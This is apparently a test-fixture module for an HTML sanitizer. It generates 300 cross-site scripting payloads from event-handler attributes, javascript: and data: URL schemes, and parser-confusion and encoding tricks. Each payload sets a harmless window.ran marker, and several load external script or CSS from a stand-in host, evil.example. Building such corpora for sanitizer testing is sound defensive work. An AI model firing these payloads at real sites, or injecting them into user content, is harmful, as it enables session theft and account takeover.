"""Three hundred ways in which people have run script in pages; each would set `window.ran`."""

RUN = "window.ran=1"
HANDLERS = ("onerror", "onload", "onclick", "onfocus autofocus", "onmouseover", "ontoggle", "onbegin", "oncut")
TAGS = (
    "<img src=x {h}={r}>",
    "<svg {h}={r}>",
    "<svg><animate {h}={r} attributeName=x dur=1s>",
    "<body {h}={r}>",
    "<input {h}={r}>",
    "<details open {h}={r}>x</details>",
    "<video src=x {h}={r}></video>",
    "<video><source {h}={r}></video>",
    "<audio src=x {h}={r}>",
    "<iframe {h}={r}></iframe>",
    "<object data=x {h}={r}></object>",
    "<p {h}={r}>x</p>",
    "<a href=/x {h}={r}>x</a>",
    "<strong {h}={r} tabindex=1>x</strong>",
    "<math><mi {h}={r}>x</mi></math>",
    "<marquee {h}={r}>x</marquee>",
    "<select {h}={r}><option>x</select>",
    "<style {h}={r}></style>",
    "<x {h}={r} contenteditable>x</x>",
    "<blockquote cite=x {h}={r}>x</blockquote>",
)
SCHEMES = (
    "javascript:{r}",
    "JaVaScRiPt:{r}",
    "java\tscript:{r}",
    "java\nscript:{r}",
    " javascript:{r}",
    "\x01javascript:{r}",
    "&#106;avascript:{r}",
    "&#x6A;avascript:{r}",
    "javascript&colon;{r}",
    "javascript&#58;{r}",
    "data:text/html,<script>{r}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "vbscript:{r}",
    "//evil.example/%0ajavascript:{r}",
    "javascript://x%0a{r}",
)
PLACES = (
    '<a href="{s}">x</a>',
    "<iframe src='{s}'></iframe>",
    '<form action="{s}"><button>x</button></form>',
    '<svg><a xlink:href="{s}"><text>x</text></a></svg>',
    '<embed src="{s}">',
    '<base href="{s}">',
    '<meta http-equiv=refresh content="0;url={s}">',
)
ODD = (
    "<script>{r}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{r}</scr</script>ipt>",
    "<script/x>{r}</script>",
    "<script\n>{r}</script\t>",
    "<<script>{r}//<</script>",
    "<svg><script>{r}</script></svg>",
    "<svg><script xlink:href=data:,{r}></script></svg>",
    "<math><style><img src=x onerror={r}></style></math>",
    '<noscript><p title="</noscript><img src=x onerror={r}>"></noscript>',
    "<template><img src=x onerror={r}></template>",
    "<textarea><img src=x onerror={r}></textarea>",
    "<title><img src=x onerror={r}></title>",
    "<xmp><img src=x onerror={r}></xmp>",
    "<plaintext><img src=x onerror={r}>",
    "<!--><img src=x onerror={r}>-->",
    '<!--<img src="--><img src=x onerror={r}//">',
    "<![CDATA[<img src=x onerror={r}>]]>",
    "<p title='</p><img src=x onerror={r}>'>x</p>",
    "<a href='x' title='\"><img src=x onerror={r}>'>x</a>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={r}>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={r}&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror={r}>">',
    "<svg><foreignObject><iframe srcdoc='<script>parent.{r}</script>'></iframe></foreignObject></svg>",
    "<iframe srcdoc='&lt;script&gt;parent.{r}&lt;/script&gt;'></iframe>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href='data:text/html,<script>{r}</script>'>",
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(javascript:{r})">x</p>',
    '<p style="width:expression({r})">x</p>',
    "<img srcset='x 1x' onerror={r}>",
    "<img src=`x` onerror=`{r}`>",
    "<img/src=x/onerror={r}>",
    "<img src=x onerror\x00={r}>",
    "<im\x00g src=x onerror={r}>",
    "<img src=x o\u200bnerror={r} onerror={r}>",
    "&lt;img src=x onerror={r}&gt;",
    "&#60;script&#62;{r}&#60;/script&#62;",
    "\\u003cscript\\u003e{r}\\u003c/script\\u003e",
    "+ADw-script+AD4-{r}+ADw-/script+AD4-",
)


def payloads() -> list[str]:
    """Exactly 300, each with a word of its own in front so that a post is never empty."""
    handled = [tag.format(h=handler, r=RUN) for tag in TAGS for handler in HANDLERS]
    linked = [place.format(s=scheme.format(r=RUN)) for place in PLACES for scheme in SCHEMES]
    odd = [it.format(r=RUN) for it in ODD]
    chosen = [*odd, *linked, *handled][:300]
    return [f"<p>p{number}</p>{it}".replace("\x00", "") for number, it in enumerate(chosen)]
